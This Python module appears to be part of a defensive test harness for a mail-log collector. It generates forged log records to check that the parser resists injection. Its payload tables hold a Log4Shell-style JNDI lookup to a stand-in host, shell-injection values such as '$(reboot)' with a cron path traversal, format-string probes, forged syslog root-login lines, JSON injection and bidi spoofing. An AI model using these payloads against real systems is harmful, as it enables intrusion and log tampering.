# Copyright (c) 2026, spamexperts.local_cloud contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Records that an attacker would like to see misread; each is written down with its class."""

from __future__ import annotations

from typing import Any, Dict, Iterator, Sequence, Tuple

from .mailflow import MailFlow
from .record import MESSAGE_FIELDS, Record

# What an attacker knows without having seen the receiver: the template on the vendor's page.
VENDOR_TEMPLATE = (
    '"%(id)s","%(filtering_host)s","%(sender)s","%(recipient)s","%(domain)s","%(timestamp)s","%(sender_host)s",'
    '"%(helo)s","%(sender_ip)s","%(incoming_size)s","%(outgoing_size)s","%(status)s","%(classification)s",'
    '"%(classification_details)s","%(from_header)s","%(to_header)s","%(cc_header)s","%(subject_header)s"'
)
DELIMITERS = ('","', "\x1f", "|", "\t", ";", " ")
WRITABLE = ("subject_header", "from_header", "helo", "sender", "sender_host", "to_header")

_JOINTS = {
    "forged_lf": "\n",
    "forged_nul": "\x00",
    "forged_cr": "\r",
    "forged_crlf": "\r\n",
    "forged_nul_lf": "\x00\n",
    "forged_plain": " ",
}
_TEXTS = {
    "format_string": "%s%s%s%n %(id)s %(nothing)s {0} {{ 7*7 }} ${jndi:ldap://x.example/a} $!all-json %$NOW%",
    "json_text": '"},{"event.action":"message","email.local_id":"FORGED-json"}\n{"email.local_id":"FORGED-json"}',
    "syslog_header": "<13>Oct 11 22:14:15 evilhost sshd[1]: Accepted password for root",
    "rfc5424_header": "<165>1 2026-01-01T00:00:00Z evilhost app - - - FORGED",
    "control": "".join(map(chr, list(range(1, 32)) + [127])),
    "nul": "before\x00after",
    "bidi": "\u202egnp.exe \u2066x\u2069 \ufeff\u2028\u2029",
    "path": "../../../../etc/cron.d/x $(reboot) `reboot` ; reboot",
    "surrogate": "lone \ud800 surrogate",
    "invalid_utf8": "bytes \udcff\udcfe\udcc0\udc80 that are not UTF-8",
    "oversize": "x" * 204800,
}
_NUMBERS = ("007", "1e5", "-1", '1,"FORGED":1', "99999999999999999999", "0x10", "١٢", "notanumber")
# How the whole line differs from the template in force (the stream makes the line).
_SHAPES = ("other_format", "other_template", "missing_field", "surplus_field", "cut", "empty")
CLASSES: Tuple[str, ...] = (*_JOINTS, "forged_status", "delimiter", "number", "address", *_TEXTS, *_SHAPES)


class Hostile:
    """Makes hostile records around ordinary mail; `forge_template` is what the attacker believes is in force."""

    def __init__(
        self, flow: MailFlow, classes: Sequence[str] = (), forge_template: str = "", delimiters: Sequence[str] = ()
    ) -> None:
        unknown = sorted(set(classes) - set(CLASSES))
        if unknown:
            raise ValueError("unknown hostile class: {}".format(", ".join(unknown)))
        self._flow, self._classes = flow, tuple(classes) or CLASSES
        self._template, self._delimiters = forge_template or VENDOR_TEMPLATE, tuple(delimiters) or DELIMITERS

    def _forged(self, number: int) -> Dict[str, str]:
        fields = dict.fromkeys(MESSAGE_FIELDS, "FORGED")
        fields.update(
            id=f"FORGED-{number:06d}",
            sender_ip="192.0.2.66",
            incoming_size="1",
            outgoing_size="1",
            bandwidth="1",
            status="delivered",
        )
        return fields

    def records(self, count: int) -> Iterator[Record]:
        """Yield so many records, the classes in turn, the attacked fields in turn."""
        for number in range(count):
            turn, index = divmod(number, len(self._classes))
            yield self._one(self._classes[index], turn, number)

    def _one(self, name: str, turn: int, number: int) -> Record:
        if name == "forged_status":
            record = self._flow.status()
            text = "550 rejected\x00<134>" + self._template_of(number)
            return self._changed(record, name, "delivery_data", text, forged_id=f"FORGED-{number:06d}")
        record = self._flow.message()
        field = WRITABLE[turn % len(WRITABLE)]
        if name in _SHAPES:
            detail = {"forge_template": self._template} if name == "other_template" else {}
            return Record(record.kind, record.node, record.fields, record.features, name, name, detail)
        if name in _JOINTS:
            text = "Hello" + _JOINTS[name] + "<134>" + self._template_of(number)
            return self._changed(record, name, field, text, forged_id=f"FORGED-{number:06d}")
        if name == "delimiter":
            delimiter = self._delimiters[turn % len(self._delimiters)]
            return self._changed(
                record,
                name,
                WRITABLE[turn // len(self._delimiters) % len(WRITABLE)],
                "left" + delimiter + "right" + delimiter,
                delimiter=delimiter,
            )
        if name == "number":
            return self._changed(
                record, name, ("incoming_size", "outgoing_size", "bandwidth")[turn % 3], _NUMBERS[turn % len(_NUMBERS)]
            )
        if name == "address":
            return self._changed(record, name, "sender_ip", ("unknown", "999.1.1.1", "::g", "1.2.3.4 ")[turn % 4])
        return self._changed(record, name, field, _TEXTS[name])

    def _template_of(self, number: int) -> str:
        return self._template % self._forged(number)

    @staticmethod
    def _changed(record: Record, name: str, field: str, text: str, **detail: Any) -> Record:
        return Record(
            record.kind,
            record.node,
            {**record.fields, field: text},
            record.features,
            name,
            "",
            {"field": field, **detail},
        )
